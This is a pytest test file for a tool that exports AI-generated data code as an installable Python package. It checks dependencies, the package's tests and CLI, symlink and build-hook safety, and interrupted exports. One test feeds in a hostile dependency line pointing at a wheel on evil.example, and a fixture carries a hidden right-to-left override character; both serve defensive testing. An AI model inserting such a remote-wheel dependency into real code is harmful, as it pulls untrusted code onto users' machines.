"""`export(kind="package")`: a folder that can be installed, plain code with its tests and its contract."""

from __future__ import annotations

import contextlib
import os
import re
import subprocess
import sys
import tempfile
import tomllib
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from uv import find_uv_bin

from autocoder_jupyter.calls.function import Function
from autocoder_jupyter.contracts.describing import contract_of
from autocoder_jupyter.data.shapes import shape_of
from autocoder_jupyter.errors import InvalidRequest
from autocoder_jupyter.tasks.package import export_package
from autocoder_jupyter.types import CodePlan, CodeSolution, Exchange, InputSpec, OutputSpec, Report
from autocoder_jupyter.untrusted.visible import visible_block
from tests.tasks.test_export import PLOT, PLOT_TESTS, WORDS, shape

CODE = '''import pandas as pd


def run(sales: pd.DataFrame, least: int = 2) -> tuple[pd.DataFrame, str]:
    """Sales of enough orders."""
    kept = sales[sales["orders"] >= least]
    return kept.reset_index(drop=True), str(kept["day"].max().date())
'''
TESTS = """import pandas as pd
from solution import run


def test_small_days_are_left_out():
    sales = pd.DataFrame({"day": pd.to_datetime(["2024-01-31", "2024-02-01"]), "orders": [5, 1]})
    kept, last = run(sales)
    assert len(kept) == 1 and last == "2024-01-31"
"""
SALES = pd.DataFrame({"day": pd.to_datetime(["2024-01-31", "2024-02-01"]), "orders": [5, 4], "note": ["a", "b"]})


@pytest.fixture
def growth(report: Any) -> Report:
    made: Report = report(
        CODE,
        (InputSpec(name="sales", type="DataFrame"), InputSpec(name="least", type="int", required=False, default=2)),
        (OutputSpec(name="kept", type="DataFrame"), OutputSpec(name="last", type="str")),
        prompt='Days with "enough" orders.\n\\[x]\u202e',
        tests=TESTS,
        plan=CodePlan(description='Days "with" \\ orders', approach="", assumptions=("ties count",)),
        lock=tuple(f"{name}=={version(name)}" for name in ("numpy", "pandas", "pyarrow", "six")),
        python_version=sys.version_info[:2],
        sample_shapes={"sales": shape_of(SALES)},
    )
    return made


def packaged(report: Report, folder: Path, contracts: Any = None) -> Path:
    return export_package(report, Function.of(report, {}, Path(".autocode"), contracts), folder)


def python(folder: Path, *arguments: str, **more: str) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PYTHONPATH": str(folder / "src"), **more}
    command = [sys.executable, *arguments]
    return subprocess.run(command, capture_output=True, text=True, cwd=folder, env=environment, check=False)


def test_the_package_is_plain_code_that_says_where_it_comes_from(growth: Report, tmp_path: Path) -> None:
    folder = packaged(growth, tmp_path / "made")
    project = tomllib.loads((folder / "pyproject.toml").read_text())
    assert project["project"]["name"] == "growth" and project["project"]["description"] == 'Days "with" \\ orders'
    major = int(version("pandas").split(".")[0])
    assert f"pandas>={version('pandas')},<{major + 1}" in project["project"]["dependencies"]
    assert "six" not in str(project) and f"six=={version('six')}" in (folder / "constraints.txt").read_text()
    for path in folder.rglob("*"):
        if path.is_file():
            text = path.read_text()
            assert "autocoder_jupyter" not in text and "\u202e" not in text
            assert not text or "written by a language model" in text or "# The tests of" in text
    assert CODE.strip() in (folder / "src" / "growth" / "solution.py").read_text()
    packaged(growth, tmp_path / "made")  # a second export replaces it
    (folder / "src" / "growth" / "solution.py").write_text("mine = 1\n")
    with pytest.raises(InvalidRequest, match="no export wrote it"):
        packaged(growth, tmp_path / "made")


def test_its_tests_pass_and_its_command_line_runs_in_the_folder(growth: Report, tmp_path: Path) -> None:
    folder = packaged(growth, tmp_path / "made")
    tested = python(folder, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests")
    assert "1 passed" in tested.stdout, tested.stdout + tested.stderr
    SALES.to_csv(folder / "sales.csv", index=False)
    ran = python(folder, "-m", "growth", "--sales", "sales.csv")
    assert "last: 2024-02-01" in ran.stdout and ran.stderr == ""


def test_a_call_holds_tables_to_what_was_recorded(growth: Report, tmp_path: Path) -> None:
    folder = packaged(growth, tmp_path / "made")
    program = """
import inspect, pandas as pd
from growth import growth
print(inspect.signature(growth), growth(pd.DataFrame({"day": ["2024-01-31"], "orders": ["7"]}))[1])
for wrong in ({"day": ["2024-01-31"]}, {"day": ["yesterday"], "orders": [1]}):
    try:
        growth(pd.DataFrame(wrong))
    except ValueError as error:
        print(error)
"""
    said = python(folder, "-c", program)
    assert "least: int = 2" in said.stdout and "2024-01-31" in said.stdout, said.stderr
    assert "sales: it lacks 'orders' (it has 'day')" in said.stdout
    assert "sales: 'day' cannot be converted to datetime64" in said.stdout and "yesterday" in said.stdout


def test_a_call_reads_columns_that_were_renamed(growth: Report, tmp_path: Path) -> None:
    folder = packaged(growth.model_copy(update={"renames": {"orders": "order count"}}), tmp_path / "made")
    assert "'order count' is read as 'orders'" in (folder / "README.md").read_text()
    SALES.rename(columns={"orders": "order count"}).to_csv(folder / "sales.csv", index=False)
    program = "import pandas as pd\nfrom growth import growth\nprint(growth(pd.read_csv('sales.csv'))[1])"
    for arguments in (("-c", program), ("-m", "growth", "--sales", "sales.csv")):
        done = python(folder, *arguments)
        assert "2024-02-01" in done.stdout and done.stderr == "", done.stderr


def test_schemas_of_the_author_are_a_part_of_the_package(growth: Report, tmp_path: Path) -> None:
    import pandera.pandas as pa

    schema = pa.DataFrameSchema({"orders": pa.Column(int, pa.Check.ge(4))})
    folder = packaged(growth, tmp_path / "made", {"kept": contract_of("contracts", "kept", schema, is_output=True)})
    assert any(
        "pandera" in one for one in tomllib.loads((folder / "pyproject.toml").read_text())["project"]["dependencies"]
    )
    program = "import pandas as pd\nfrom growth import growth\ngrowth(pd.read_csv('s.csv'), least=1)"
    SALES.to_csv(folder / "s.csv", index=False)
    assert python(folder, "-c", program).returncode == 0
    SALES.assign(orders=[1, 9]).to_csv(folder / "s.csv", index=False)
    assert "SchemaErrors" in python(folder, "-c", program).stderr


def test_tests_of_a_picture_pass_in_the_package(report: Any, tmp_path: Path) -> None:
    interface = (
        (InputSpec(name="sales", type="DataFrame"),),
        (
            OutputSpec(name="picture", type="Figure"),
            OutputSpec(name="total", type="float"),
        ),
    )
    plot = report(PLOT, *interface, tests=PLOT_TESTS, lock=(), python_version=sys.version_info[:2])
    folder = packaged(plot, tmp_path / "made")
    tested = python(folder, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests")
    assert "1 passed" in tested.stdout, tested.stdout + tested.stderr


@pytest.mark.parametrize("name", ["_growth", "growth_", "größe", "pandas", "NumPy", "scikit_learn", "sklearn"])
def test_a_name_that_a_package_cannot_have_is_refused(growth: Report, tmp_path: Path, name: str) -> None:
    with pytest.raises(InvalidRequest, match=r"cannot be named|would hide the module"):
        packaged(growth.model_copy(update={"name": name}), tmp_path / "made")
    assert not (tmp_path / "made").exists()


@given(words=st.tuples(*[WORDS] * 9))
@settings(max_examples=15, deadline=None)
def test_whatever_words_are_in_a_report_the_package_is_the_same(words: tuple[str, ...]) -> None:
    def made(words: tuple[str, ...]) -> dict[str, str]:
        prompt, model, about, assumption, meaning, default, column, dtype, rename = words
        inputs = (
            InputSpec(name="sales", type="DataFrame", meaning=meaning),
            InputSpec(name="text", type="str", required=False, default=default),
        )
        shape_of_sales = {"rows": 1, "columns": [[repr(column), dtype]], "index": [["None", "int64"]]}
        report = Report.model_construct(
            **Report(name="growth", run_id="1", prompt="p", success=True, solution=CodeSolution(code=CODE)).__dict__
            | {"prompt": prompt, "plan": CodePlan(description=about, approach="", assumptions=(assumption,))}
            | {"conversation_history": (Exchange(stage="plan", key="k", model=model, messages=(), answer=""),)}
            | {"declared_inputs": inputs, "sample_shapes": {"sales": shape_of_sales}, "tests": TESTS}
            | {"declared_outputs": (OutputSpec(name="kept", type="DataFrame"), OutputSpec(name="last", type="str"))}
            | {"renames": {"orders": rename}, "lock": ("pandas==3.1",), "python_version": (3, 11)}
        )
        with tempfile.TemporaryDirectory() as folder:
            packaged(report, Path(folder))
            return {
                path.relative_to(folder).as_posix(): path.read_text("utf-8")
                for path in Path(folder).rglob("*")
                if path.is_file()
            }

    files, plain = made(words), made(("plain",) * 9)
    assert files.keys() == plain.keys()
    for path, text in files.items():
        assert visible_block(text) == text
        if path.endswith(".py"):
            assert shape(text) == shape(plain[path])
    project, other = tomllib.loads(files["pyproject.toml"]), tomllib.loads(plain["pyproject.toml"])
    project["project"]["description"] = other["project"]["description"]
    assert project == other
    assert not re.search(r"(?m)^[^#\n]", files["constraints.txt"].replace("pandas==3.1\n", ""))
    # The words of others are in a block of code, which is not read as Markdown.
    page, other_page = (
        [line for line in text["README.md"].splitlines() if line[:4].strip()] for text in (files, plain)
    )
    assert page == other_page


def test_code_and_tests_with_metadata_of_their_own_are_not_written(growth: Report, tmp_path: Path) -> None:
    metadata = '# /// script\n# dependencies = ["evil @ https://evil.example/x.whl"]\n# ///\n'
    for hostile in (
        growth.model_copy(update={"solution": CodeSolution(code=metadata + CODE)}),
        growth.model_copy(update={"tests": metadata + TESTS}),
    ):
        with pytest.raises(InvalidRequest, match="already has script metadata"):
            packaged(hostile, tmp_path / "made")
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize("link", ["src", "src/growth", "tests", "pyproject.toml", "src/growth/solution.py"])
def test_no_file_of_a_package_is_written_through_a_link(growth: Report, tmp_path: Path, link: str) -> None:
    outside, made = tmp_path / "outside", tmp_path / "made"
    (made / link).parent.mkdir(parents=True)
    if link.endswith((".py", ".toml")):
        outside.write_text("mine")
    else:
        outside.mkdir()
    (made / link).symlink_to(outside)
    with contextlib.suppress(InvalidRequest):
        packaged(growth, made)
        assert not (made / link).is_symlink()
    assert outside.read_text() == "mine" if outside.is_file() else not list(outside.iterdir())


@pytest.mark.parametrize(
    "there",
    [
        "hatch.toml",
        "uv.toml",
        "notes.txt",
        ".git/config",
        "src/growth/solution/__init__.py",
        "src/growth/solution.abi3.so",
        "src/growth/__pycache__/solution.cpython-311.pyc",
        "src/pandas/__init__.py",
        "tests/conftest.py",
    ],
)
@pytest.mark.parametrize("kind", ["file", "link", "export before"])
def test_a_folder_with_anything_that_no_export_wrote_is_refused(
    growth: Report, tmp_path: Path, there: str, kind: str
) -> None:
    """`hatch.toml` with a hook runs code of that folder while pip builds the package, for instance."""
    made = tmp_path / "made"
    if kind == "export before":
        packaged(growth, made)
    (made / there).parent.mkdir(parents=True, exist_ok=True)
    if kind == "link":
        (made / there).symlink_to(tmp_path / "nothing")
    else:
        (made / there).write_text('[build.hooks.custom]\npath = "theirs.py"\n')
    before = {path: path.is_file() and path.read_bytes() for path in made.rglob("*")}
    with pytest.raises(InvalidRequest, match="exists, and no export wrote it"):
        packaged(growth, made)
    assert {path: path.is_file() and path.read_bytes() for path in made.rglob("*")} == before


def test_an_earlier_export_and_an_empty_folder_are_written_over(growth: Report, tmp_path: Path) -> None:
    (tmp_path / "made").mkdir()
    for _ in range(2):
        packaged(growth, tmp_path / "made")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["made"]
    assert not [path for path in (tmp_path / "made").rglob("*") if path.name.startswith(".")]


@pytest.mark.parametrize("is_there", [False, True])
@pytest.mark.parametrize("step", [*range(1, 40, 3)])
def test_an_interrupted_export_leaves_nothing(
    growth: Report, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: int, is_there: bool
) -> None:
    steps, made = iter(range(1, 1000)), tmp_path / "made"
    if is_there:
        made.mkdir()

    def interrupted(function: Any) -> Any:
        def call(*arguments: Any, **options: Any) -> Any:
            if next(steps) == step:
                raise KeyboardInterrupt
            return function(*arguments, **options)

        return call

    for name in ("replace", "fsync", "mkdir", "open"):
        monkeypatch.setattr(os, name, interrupted(getattr(os, name)))
    with pytest.raises(KeyboardInterrupt):
        packaged(growth, made)
    monkeypatch.undo()
    assert list(tmp_path.rglob("*")) == [made] * is_there


@pytest.mark.slow
def test_the_package_is_installed_and_imported_in_a_new_environment(growth: Report, tmp_path: Path) -> None:
    folder = packaged(growth, tmp_path / "made")
    environment = {key: value for key, value in os.environ.items() if key not in ("VIRTUAL_ENV", "PYTHONPATH")}
    SALES.to_parquet(tmp_path / "sales.parquet")
    program = "import pandas as pd\nfrom growth import growth\nprint(growth(pd.read_parquet('sales.parquet'))[1])"
    command = [find_uv_bin(), "run", "--no-project", "--with", str(folder), "python", "-c", program]
    done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, env=environment, check=False)
    assert done.stdout.strip() == "2024-02-01", done.stderr
    line = next(line for line in (folder / "tests" / "test_growth.py").read_text().splitlines() if "uv run" in line)
    tested = subprocess.run(
        [find_uv_bin(), *line.removeprefix("#").split()[1:]],
        capture_output=True, text=True, cwd=folder, env=environment, check=False,
    )  # fmt: skip
    assert "1 passed" in tested.stdout, tested.stderr + tested.stdout
